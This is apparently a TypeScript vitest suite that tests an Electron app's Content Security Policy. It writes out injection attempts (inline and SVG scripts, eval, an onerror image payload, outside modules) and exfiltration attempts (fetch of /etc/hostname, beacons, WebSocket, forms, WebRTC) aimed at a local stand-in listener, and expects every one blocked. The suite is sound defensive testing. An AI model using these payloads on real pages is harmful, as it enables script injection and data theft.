import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Attack, expectSilence, Victim } from './attack.ts';
import { type Listener, listen } from './listener.ts';

// A script that somehow runs in the page brings in no code and sends nothing out.

let victim: Victim;
let outside: Listener;

beforeAll(async () => {
  outside = await listen();
  victim = await Victim.start();
});

afterAll(async () => {
  await victim.app.close();
  outside.stop();
});

test('the policy stands in the header of every answer, word for word', async () => {
  const answers = await victim.page.evaluate(async () => {
    const found = [await fetch('/index.html'), await fetch('/not-there')];
    return found.map(({ status, headers }) => [status, headers.get('Content-Security-Policy')]);
  });
  const words =
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; " +
    "worker-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-src 'none'; " +
    "object-src 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types layout-worker";
  expect(answers).toEqual([
    [200, words],
    [404, words],
  ]);
});

test('what the product needs is no violation, so that one means something', async () => {
  await victim.forget();
  const end = await victim.run(
    () =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('drawn');
        image.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
      }),
    outside.origin,
  );
  expect(end).toBe('returned drawn');
  expect(await victim.noticed()).toEqual([]);
});

type Case = readonly [name: string, how: RegExp, attack: Attack];
const untrusted = /violation require-trusted-types-for/;

const code: readonly Case[] = [
  ['an inline script', untrusted, (_, add) => add('script').append('window.hit = 1')],
  [
    'an inline script in a picture',
    untrusted,
    () => {
      const picture = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.append('window.hit = 1');
      picture.append(script);
      document.body.append(picture);
    },
  ],
  // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
  ['eval', /threw EvalError/, () => globalThis.eval('window.hit = 1')],
  ['new Function', /threw EvalError/, () => new Function('window.hit = 1')()],
  ['a timer with code as text', untrusted, () => Reflect.apply(setTimeout, window, ['window.hit = 1'])],
  ['an inline handler', untrusted, (_, add) => add('button').setAttribute('onclick', 'window.hit = 1')],
  [
    'text made into markup',
    untrusted,
    (_, add) => {
      add('div').innerHTML = '<img src="x" onerror="window.hit = 1">';
    },
  ],
  ['document.write', untrusted, () => document.write('<h1>written</h1>')],
  [
    'a way to trust text',
    /violation trusted-types/,
    () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (text: string) => text }),
  ],
  [
    'the policy of its worker, a second time',
    /violation trusted-types/,
    () =>
      Reflect.get(window, 'trustedTypes').createPolicy('layout-worker', {
        createScriptURL: (url: string) => url,
      }),
  ],
  ['a worker that is not its own', untrusted, () => new Worker('/assets/x.js', { type: 'module' })],
  ['a script from outside', untrusted, (from, add) => add('script', { src: `${from}/x.js` })],
  ['a module from outside', /violation script-src-elem/, '(from) => import(from)'],
  [
    'a module in a data URL',
    /violation script-src-elem/,
    "() => import('data:text/javascript,window.hit = 1')",
  ],
  ['a worker from a blob', untrusted, () => new Worker(URL.createObjectURL(new Blob(['1'])))],
  ['a service worker', untrusted, () => navigator.serviceWorker.register('/assets/x.js')],
  [
    'WebAssembly',
    /violation script-src/,
    () => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  ],
];

describe('code that does not run', () => {
  test.each(code)('%s', (_name, how, attack) => victim.isRefused(attack, outside.origin, how));
});

const loads: readonly Case[] = [
  ['a picture', /violation img-src/, (from, add) => add('img', { src: `${from}/x.png` })],
  [
    'a picture named in a style',
    /violation img-src/,
    (from) => {
      document.body.style.backgroundImage = `url(${from}/x.png)`;
    },
  ],
  ['fetch', /violation connect-src/, (from) => fetch(from)],
  ['fetch of another host of the scheme', /violation connect-src/, () => fetch('app://other/index.html')],
  ['fetch of a file', /violation connect-src/, () => fetch('file:///etc/hostname')],
  [
    'XMLHttpRequest',
    /violation connect-src/,
    (from) => {
      const request = new XMLHttpRequest();
      request.open('GET', from);
      request.send();
    },
  ],
  ['WebSocket', /violation connect-src/, (from) => new WebSocket(from.replace('http', 'ws'))],
  ['EventSource', /violation connect-src/, (from) => new EventSource(from)],
  ['WebTransport', /violation connect-src/, (from) => new WebTransport(from.replace('http', 'https')).ready],
  ['a beacon', /violation connect-src/, (from) => navigator.sendBeacon(from, 'case data')],
  ['a ping', /violation connect-src/, (from, add) => add('a', { href: '#', ping: from }).click()],
  ['a frame', /violation frame-src/, (from, add) => add('iframe', { src: from })],
  ['its own page in a frame', /violation frame-src/, (_, add) => add('iframe', { src: '/index.html' })],
  ['an object', untrusted, (from, add) => add('object', { data: from })],
  ['an embedded document', untrusted, (from, add) => add('embed', { src: from })],
  ['a video', /violation media-src/, (from, add) => add('video', { src: from })],
  ['a font', /violation font-src/, (from) => new FontFace('x', `url(${from}/x.woff2)`).load()],
  [
    'a style sheet',
    /violation style-src-elem/,
    (from, add) => add('link', { rel: 'stylesheet', href: from }),
  ],
  ['a style element', /violation style-src-elem/, (_, add) => add('style').append('body { color: red }')],
  ['a style attribute', /violation style-src-attr/, (_, add) => add('p').setAttribute('style', 'color: red')],
  [
    'a page ahead of time',
    /violation default-src/,
    (from, add) => add('link', { rel: 'prefetch', href: from }),
  ],
  ['a new base address', /violation base-uri/, (from, add) => add('base', { href: from })],
  [
    'a form',
    /violation form-action/,
    (from, add) => {
      const form = add('form', { action: from, method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
    },
  ],
];

describe('what is not loaded or sent', () => {
  test.each(loads)('%s', (_name, how, attack) => victim.isRefused(attack, outside.origin, how));
});

test('WebRTC, which no policy governs, finds no way out either', async () => {
  const found = await victim.page.evaluate(async ([host, port]) => {
    const server = (scheme: string) => ({
      urls: `${scheme}:${host}:${port}`,
      username: 'u',
      credential: 'c',
    });
    const connection = new RTCPeerConnection({ iceServers: ['stun', 'turn', 'turns'].map(server) });
    connection.createDataChannel('way out');
    const gathered = new Promise((resolve) => {
      connection.onicecandidate = ({ candidate }) => {
        if (candidate === null) resolve('nothing');
        else if (candidate.candidate !== '') resolve(candidate.candidate);
      };
    });
    const offer = await connection.createOffer();
    await connection.setLocalDescription(offer);
    const sdp = offer.sdp?.replaceAll('a=setup:actpass', 'a=setup:active');
    await connection.setRemoteDescription({ type: 'answer', sdp });
    for (const [protocol, kind] of [
      ['udp', ''],
      ['tcp', ' tcptype passive'],
    ]) {
      const candidate = `candidate:1 1 ${protocol} 2122260223 ${host} ${port} typ host${kind}`;
      await connection.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    }
    // Where there is no network at all, Chromium gathers without an end.
    const patience = new Promise((resolve) => setTimeout(resolve, 5000, 'nothing'));
    return Promise.race([gathered, patience]);
  }, new URL(outside.origin).host.split(':'));
  expect(found).toBe('nothing');
  // Without a network that shows little, so the setting that it rests on is read as well.
  const policies = await victim.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
  );
  expect(policies).toEqual(['disable_non_proxied_udp']);
});

test('not one packet of all that reached the server outside', () => expectSilence(outside));
